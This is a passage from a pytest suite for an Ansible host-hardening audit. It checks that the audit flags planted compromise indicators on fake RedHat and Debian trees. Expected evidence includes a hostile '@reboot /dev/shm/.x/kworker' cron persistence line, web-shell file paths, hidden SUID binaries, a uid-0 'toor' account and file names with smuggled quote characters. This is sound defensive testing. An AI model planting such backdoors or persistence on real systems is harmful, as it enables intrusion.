        self.hostvars: dict[str, dict[str, Any]] = {}
        for host, (family, good) in HOSTS.items():
            root, tools = base / host / "root", base / host / "bin"
            root.mkdir(parents=True)
            plant(root, tools, family, good, self.keys)
            self.hostvars[host] = {"drill_root": str(root), "drill_bin": str(tools)}
        empty, tools = base / "empty" / "root", base / "empty" / "bin"
        empty.mkdir(parents=True)
        _tools(tools)
        self.hostvars["empty"] = {"drill_root": str(empty), "drill_bin": str(tools)}
        self.hostvars["real"] = {}
        for host in self.hostvars:
            self.hostvars[host].update(
                {
                    "ansible_connection": "local",
                    "ansible_python_interpreter": sys.executable,
                    "drill_ssh_approved_fingerprints": [self.keys.fp["ok"]],
                }
            )
        inv = base / "inventory"
        inv.mkdir()
        (inv / "group_vars").symlink_to(GROUP_VARS)
        (inv / "hosts.yml").write_text(yaml.safe_dump({"all": {"hosts": self.hostvars}}))
        self.inventory = inv / "hosts.yml"
        self.raw = _play(base, self.inventory)
        self.results: dict[tuple[str, str], dict[str, str]] = {}
        for r in self.raw:
            doc = _parse(r)
            assert r["task"] == next(
                t["name"] for t in TASKS if t["name"].startswith(doc["check"] + ":")
            )
            self.results[(r["host"], doc["check"])] = doc


@pytest.fixture(scope="module")
def drill(tmp_path_factory: pytest.TempPathFactory) -> Drill:
    missing = None
    if os.geteuid() != 0:
        missing = "the planted trees need root: files owned by uid 0, SUID bits"
    elif not shutil.which("ansible-playbook") or not shutil.which("ssh-keygen"):
        missing = "ansible-playbook or ssh-keygen missing"
    if missing:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"{missing} (CI=true: the drill checks must run)")
        pytest.skip(missing)
    return Drill(tmp_path_factory.mktemp("drill"))


IDS = [c.id for c in catalogue.load()]


@pytest.mark.slow
@pytest.mark.parametrize("family", ["RedHat", "Debian"])
@pytest.mark.parametrize("check_id", IDS)
def test_check_fails_on_the_bad_tree_and_passes_on_the_good(
    drill: Drill, check_id: str, family: str
) -> None:
    prefix = "rh" if family == "RedHat" else "deb"
    bad = drill.results[(f"{prefix}-bad", check_id)]
    good = drill.results[(f"{prefix}-good", check_id)]
    assert bad["status"] == "fail", bad
    assert good["status"] == "pass", good


@pytest.mark.slow
def test_every_host_ran_every_check_once(drill: Drill) -> None:
    for host in drill.hostvars:
        assert [d["check"] for (h, _), d in drill.results.items() if h == host] == IDS
    assert len(drill.raw) == len(IDS) * len(drill.hostvars)


EMPTY = {
    "acct-empty-password": "manual",
    "acct-uid0": "manual",
    "pwd-aging": "manual",
    "pwd-complexity": "manual",
    "login-lockout": "manual",
    "session-timeout": "manual",
    "ssh-root-login": "n/a",
    "ssh-password-auth": "n/a",
    "ssh-empty-passwords": "n/a",
    "ssh-max-auth-tries": "n/a",
    "audit-auditd-running": "manual",
    "audit-rules": "fail",
    "audit-immutable": "fail",
    "audit-log-protect": "n/a",
    "log-syslog-running": "manual",
    "log-forward": "fail",
    "log-retention": "manual",
    "perm-shadow": "n/a",
    "perm-passwd": "n/a",
    "perm-sshd-config": "n/a",
    "net-listening-ports": "manual",
    "svc-unneeded": "manual",
    "pkg-unneeded": "manual",
    "fw-active": "manual",
    "time-sync": "manual",
    "patch-security": "manual",
    "cron-suspicious": "n/a",
    "ssh-authorized-keys": "n/a",
    "webshell": "n/a",
    "suid-unknown": "manual",
}


@pytest.mark.slow
def test_an_empty_tree_never_passes(drill: Drill) -> None:
    """Nothing to read, tools failing: manual or n/a where the state is unknown, fail
    where a missing configuration is itself the finding, never pass."""
    assert set(EMPTY) == set(IDS)
    got = {c: drill.results[("empty", c)]["status"] for c in IDS}
    assert got == EMPTY


@pytest.mark.slow
def test_the_real_root_gives_a_valid_status_for_every_check(drill: Drill) -> None:
    for check_id in IDS:
        doc = drill.results[("real", check_id)]
        assert doc["status"] in STATUSES - {"error"}, doc
        assert doc["expected"]


@pytest.mark.slow
def test_evidence_never_carries_a_hash_or_key_material(drill: Drill) -> None:
    secrets = [SALT, "PRIVATE KEY", *drill.keys.secrets()]
    for r in drill.raw:
        for secret in secrets:
            assert secret not in r["stdout"], (r["host"], r["task"], secret)
    # the hostile cron line was shown, its hash removed
    cron = drill.results[("rh-bad", "cron-suspicious")]["evidence"]
    assert "[hash removed]" in cron and '/tmp/"x\\y' in cron


@pytest.mark.slow
def test_evidence_names_what_was_found(drill: Drill) -> None:
    r = drill.results
    empty = r[("rh-bad", "acct-empty-password")]["evidence"].splitlines()
    assert empty == ["nopass (/etc/passwd)", 'ev"il\\user', "\ufffd\ufffdbytes"]
    assert r[("rh-bad", "acct-uid0")]["evidence"] == "toor"
    assert set(r[("rh-bad", "pwd-aging")]["evidence"].splitlines()) == {
        "PASS_MAX_DAYS 99999",
        "root (maximum 99999 days)",
        "toor (no maximum)",
    }
    assert r[("deb-bad", "ssh-root-login")]["actual"] == "PermitRootLogin yes"
    assert r[("rh-good", "ssh-root-login")]["actual"] == "PermitRootLogin no"
    assert (
        "KbdInteractiveAuthentication yes (default)"
        in r[("deb-bad", "ssh-password-auth")]["actual"]
    )
    assert r[("deb-bad", "ssh-max-auth-tries")]["actual"] == "MaxAuthTries 6"
    assert r[("rh-bad", "net-listening-ports")]["evidence"].splitlines() == [
        "tcp 0.0.0.0:23",
        "tcp [::]:3306",
        "tcp [::ffff:10.1.2.3]:8443",
    ]
    assert r[("rh-bad", "svc-unneeded")]["evidence"].splitlines() == [
        "running: in.telnetd (pid 301)",
        "enabled: vsftpd.service (multi-user.target.wants)",
        "enabled: rsh.socket (sockets.target.wants)",
    ]
    assert set(r[("deb-bad", "svc-unneeded")]["evidence"].splitlines()) == {
        "enabled in xinetd: /etc/xinetd.d/tftp",
        "enabled in inetd: telnet (in.telnetd)",
    }
    assert r[("rh-bad", "pkg-unneeded")]["evidence"].splitlines() == ["telnet-server", "vsftpd"]
    assert r[("deb-bad", "pkg-unneeded")]["evidence"].splitlines() == ["nis", "telnetd-ssl"]
    assert (
        r[("rh-bad", "patch-security")]["evidence"]
        == "KYSA-2024:0012 openssl-1:1.1.1f-15.ky10.x86_64"
    )
    assert r[("deb-bad", "patch-security")]["evidence"] == "openssl"
    assert (
        "/var/spool/cron/crontabs/root:1: @reboot /dev/shm/.x/kworker"
        == r[("deb-bad", "cron-suspicious")]["evidence"]
    )
    keys = r[("rh-bad", "ssh-authorized-keys")]["evidence"]
    assert drill.keys.fp["bad"] in keys and drill.keys.fp["ok"] not in keys
    assert "root " in keys and "/root/.ssh/authorized_keys2" in keys
    assert drill.keys.fp["ok"] in r[("deb-good", "ssh-authorized-keys")]["evidence"]
    shells = set(r[("deb-bad", "webshell")]["evidence"].splitlines())
    assert shells == {
        "/var/www/html/uploads/x.php",
        '/var/www/html/uploads/a"b\\?c.jsp',
        "/usr/share/nginx/html/s.aspx",
    }
    assert set(r[("deb-bad", "suid-unknown")]["evidence"].splitlines()) == {
        "/usr/local/bin/.hidden",
        "/bin/bash.bak",
        "/usr/local/sbin/x?y",
    }
    assert r[("deb-bad", "suid-unknown")]["actual"] == "3 SUID file(s) not on the known list"
    assert r[("deb-bad", "webshell")]["actual"] == "3 file(s) match a web-shell pattern"
    assert r[("rh-bad", "suid-unknown")]["evidence"] == "/usr/local/bin/.hidden"
    assert "/var/log/auth.log: kept 30 days" in r[("deb-bad", "log-retention")]["evidence"]
    assert "/var/log/auth.log: kept 200 days" in r[("deb-good", "log-retention")]["evidence"]
    assert r[("rh-good", "fw-active")]["evidence"].startswith(
        "nft: table inet firewalld chain filter_INPUT"
    )
    assert r[("deb-good", "fw-active")]["evidence"] == "iptables: -P INPUT DROP"


@pytest.mark.slow
def test_check_mode_still_probes_and_tags_select(drill: Drill) -> None:
    raw = _play(
        drill.base,
        drill.inventory,
        "--check",
        "--tags",
        "acct-uid0,net-listening-ports",
        "--limit",
        "rh-bad,deb-good",
    )
    got = {(r["host"], _parse(r)["check"]): _parse(r)["status"] for r in raw}
    assert got == {
        ("rh-bad", "acct-uid0"): "fail",
        ("rh-bad", "net-listening-ports"): "fail",
        ("deb-good", "acct-uid0"): "pass",
        ("deb-good", "net-listening-ports"): "pass",
    }


# ---- the same scripts under bash --posix (RedHat's /bin/sh) -------------------


def _environment(hostvars: dict[str, Any]) -> dict[str, str]:
    """The play's environment as Ansible renders it, from group_vars and host vars."""
    import jinja2

    values = yaml.safe_load((GROUP_VARS / "all.yml").read_text(encoding="utf-8"))
    values.update(hostvars)
    env = jinja2.Environment(undefined=jinja2.StrictUndefined)
    return {k: env.from_string(v).render(values) for k, v in PLAY["environment"].items()}


def _bash_run(script: str, env: dict[str, str]) -> dict[str, str]:
    proc = subprocess.run(
        ["bash", "--posix", "-c", script],
        capture_output=True,
        env={**os.environ, **env},
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    return _parse({"status": "ok", "changed": False, "stdout": proc.stdout.decode("ascii")})


@pytest.mark.slow
def test_bash_posix_gives_the_same_results_as_dash(drill: Drill) -> None:
    if not shutil.which("bash"):
        pytest.skip("no bash")
    lib = PLAY["vars"]["_drill_lib"]
    jobs = []
    for host in HOSTS:
        env = _environment(drill.hostvars[host])
        for task in TASKS:
            jobs.append((host, task["ansible.builtin.shell"]["cmd"].replace(LIB, lib), env))
    with ThreadPoolExecutor(4) as pool:
        docs = list(pool.map(lambda job: (job[0], _bash_run(job[1], job[2])), jobs))
    for host, doc in docs:
        assert doc == drill.results[(host, doc["check"])], (host, doc)


@pytest.mark.slow
def test_a_vm_may_listen_on_the_ports_its_system_declares(tmp_path: Path) -> None:
    # 0.0.0.0:443 listening (0x01BB); the inventory gives a VM its system's ports.
    tcp = (
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
        "   0: 00000000:01BB 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0\n"
    )
    root = tmp_path / "root"
    _w(root, "proc/net/tcp", tcp)
    common = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable,
              "drill_root": str(root)}  # fmt: skip
    hostvars = {
        "web-declared": {**common, "system_ports": ["443/tcp", "53/udp"]},
        "web-undeclared": dict(common),
    }
    inv = tmp_path / "inventory"
    inv.mkdir()
    (inv / "group_vars").symlink_to(GROUP_VARS)
    (inv / "hosts.yml").write_text(yaml.safe_dump({"all": {"hosts": hostvars}}))
    got = {
        r["host"]: _parse(r)
        for r in _play(tmp_path, inv / "hosts.yml", "--tags", "net-listening-ports")
    }
    assert got["web-declared"]["status"] == "pass", got["web-declared"]
    assert got["web-undeclared"]["status"] == "fail" and "443" in got["web-undeclared"]["actual"]
